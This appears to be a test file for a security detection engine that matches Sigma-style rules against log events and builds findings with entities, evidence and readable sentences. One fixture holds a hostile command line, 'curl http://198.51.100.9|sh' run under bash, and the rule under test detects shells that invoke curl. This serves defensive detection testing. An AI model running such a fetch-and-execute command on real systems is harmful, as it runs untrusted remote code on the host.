import fc from "fast-check";
import { readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { eventId, micros, sequence, sourceId } from "@tyto/domain";
import type { Event, EventFields, FieldValue, Finding, OriginId } from "@tyto/domain";
import { createDetectionEngine } from "./engine.ts";
import { loadRuleSet } from "./load-rule-set.ts";

const NOW = micros(1_800_000_000_000_000);
const RULE = `title: Shell started
id: 11111111-1111-4111-8111-111111111111
level: high
tags: [attack.t1059]
logsource: {product: linux, category: process_creation}
detection:
  sel: {Image|endswith: ['/sh', '/bash'], CommandLine|contains: curl}
  condition: sel
`;

function event(ordinal: number, fields: EventFields, pack = "linux-auditd"): Event {
  return {
    id: eventId("00000000000000aa" as OriginId, ordinal),
    sequence: sequence(ordinal + 1),
    source: sourceId("00000000000000aa"),
    timestamp: micros(1_770_000_000_000_000 + ordinal),
    timeOrigin: "event",
    ingested: NOW,
    pack,
    fields: Object.assign(Object.create(null) as Record<string, FieldValue>, fields),
    raw: new TextEncoder().encode("raw line"),
  };
}

const SHELL = {
  "event.category": ["process"],
  "event.type": ["start"],
  "process.executable": "/bin/bash",
  "process.command_line": "bash -c 'curl http://198.51.100.9|sh'",
  "user.name": "Ana",
  "source.ip": "2001:DB8:0:0::1",
  "host.name": "WEB-01",
};

function findingsOf(rules: string, events: readonly Event[]): readonly Finding[] {
  const engine = createDetectionEngine(loadRuleSet([{ path: "rule.yml", text: rules }]));
  const { changes, state } = engine.process(events, NOW);
  expect(state).toEqual([]);
  return changes.flatMap((change) => (change.kind === "upsert" ? [change.finding] : []));
}

describe("a rule over single events", () => {
  it("finds one event: who, where, what matched, under a key of rule and event", () => {
    const shell = event(7, SHELL);
    expect(findingsOf(RULE, [event(1, { "event.category": ["process"] }), shell])).toEqual([
      {
        key: "11111111-1111-4111-8111-111111111111||00000000000000aa-7",
        version: 1,
        rule: {
          id: "11111111-1111-4111-8111-111111111111",
          title: "Shell started",
          level: "high",
          tags: ["attack.t1059"],
          cause: "11111111-1111-4111-8111-111111111111",
        },
        group: [
          { type: "user", value: "ana" },
          { type: "ip", value: "2001:db8::1" },
          { type: "host", value: "web-01" },
        ],
        entities: [
          { type: "user", value: "ana" },
          { type: "ip", value: "2001:db8::1" },
          { type: "host", value: "web-01" },
          { type: "process", value: "/bin/bash" },
        ],
        firstSeen: shell.timestamp,
        lastSeen: shell.timestamp,
        count: 1,
        evidence: [{ id: shell.id, timestamp: shell.timestamp, occurrences: 1 }],
        matched: [
          { field: "Image", value: "/bin/bash", modifier: "endswith" },
          { field: "CommandLine", value: SHELL["process.command_line"], modifier: "contains" },
        ],
        sentence: "**ana**: Shell started from **2001:db8::1** on **web-01**",
      },
    ]);
  });

  it("says the same of an event that is seen again", () => {
    const shell = event(7, SHELL);
    const [first, again] = findingsOf(RULE, [shell, shell]);
    expect(again).toEqual(first);
  });

  it("does not look at events of other logsources", () => {
    expect(findingsOf(RULE, [event(7, SHELL, "generic-json")])).toEqual([]);
  });

  it("keeps log text from becoming markup in its sentence", () => {
    const [finding] = findingsOf(RULE, [event(7, { ...SHELL, "user.name": "a**b\n[c]" })]);
    expect(finding?.sentence).toMatch(/^\*\*a∗∗b \[c\]\*\*: Shell started/);
  });

  it("says its own sentence, and refuses one that cannot be read", () => {
    const own = (sentence: string): string => `${RULE}tyto: {sentence: "${sentence}", cause: shell}\n`;
    const [finding] = findingsOf(own("{process.executable} ran[ for {user.email}][ as {user.name}]"), [
      event(7, SHELL),
    ]);
    expect(finding?.sentence).toBe("**/bin/bash** ran as **ana**");
    expect(finding?.rule.cause).toBe("shell");
    for (const wrong of ["{user.name", "[{user.name}", "{user name}", "a]"]) {
      const { report } = loadRuleSet([{ path: "rule.yml", text: own(wrong) }]);
      expect([wrong, report[0]?.status]).toEqual([wrong, "invalid"]);
    }
  });
});

describe("what to do about a finding", () => {
  const own = (response: string): string => `${RULE}tyto: {response: ${response}}\n`;
  const load = (response: string) => loadRuleSet([{ path: "rule.yml", text: own(response) }]);

  it("is a rule's list of sentences, kept as written", () => {
    const { report, diagnostics } = load('["Ask {user.name}.", "Stop it."]');
    expect(diagnostics).toEqual([]);
    expect(report[0]?.response).toEqual(["Ask {user.name}.", "Stop it."]);
    expect(loadRuleSet([{ path: "rule.yml", text: RULE }]).report[0]?.response).toEqual([]);
  });

  it.each([
    ["Ask them.", "wrong-shape"],
    ["[[Ask them.]]", "wrong-shape"],
    ["[a, b, c, d, e, f, g, h, i, j, k]", "wrong-shape"],
    ['["Ask {user.name."]', "bad-sentence"],
  ])("is refused as %s", (response, code) => {
    const { report, diagnostics } = load(response);
    expect(diagnostics.map((one) => one.code)).toContain(code);
    expect(report[0]?.status).toBe("invalid");
  });
});

describe("the engine", () => {
  const packs = resolve(import.meta.dirname, "../../../packs");
  const own = readdirSync(packs, { recursive: true, encoding: "utf8" })
    .filter((name) => /^[^/]+\/rules\/.+\.ya?ml$/.test(name))
    .map((path) => ({ path, text: readFileSync(join(packs, path), "utf8") }));
  const ruleSet = loadRuleSet(own);

  it("names the rules that may raise something, and no others", () => {
    const titles = createDetectionEngine(ruleSet).rules.map(({ title }) => title);
    expect(titles).toContain("Brute force from one address");
    expect(titles).not.toContain("Failed login");
  });

  it("throws for no event, whatever stands in it", () => {
    const names = fc.constantFrom(
      ...[
        "event.category",
        "event.outcome",
        "event.type",
        "user.name",
        "source.ip",
        "url.original",
        "event.code",
      ],
      ...["winlog.channel", "tyto.occurrences", "http.response.status_code", "user_agent.original", "winlog"],
    );
    const value = fc.oneof(
      fc.constantFrom<FieldValue>(
        "authentication",
        "failure",
        "network",
        "denied",
        "web",
        "203.0.113.7",
        404,
        null,
        1e308,
      ),
      fc.string({ unit: "binary" }),
      fc.constantFrom<FieldValue>(
        "\ud800",
        "::ffff:999.1.1.1",
        "%",
        "a|b",
        [],
        [[]],
        { a: [{ b: null }] },
        Number.NaN,
      ),
      fc.array(fc.constantFrom<FieldValue>("authentication", "network", "denied", "web", "access", 1, null)),
    );
    const event_ = fc.tuple(
      fc.array(fc.tuple(names, value), { maxLength: 12 }),
      fc.constantFrom("nginx-nginx/access", "linux-auth/sshd", "windows-security", "unknown", ""),
    );
    fc.assert(
      fc.property(fc.array(event_, { maxLength: 15 }), (events) => {
        const engine = createDetectionEngine(ruleSet);
        const made = events.map(([fields, pack], n) =>
          event(n, Object.fromEntries(fields) as EventFields, pack),
        );
        for (const { key } of engine.process(made, NOW).state)
          expect(key.isWellFormed?.() ?? true).toBe(true);
      }),
      { numRuns: 300 },
    );
  });
});
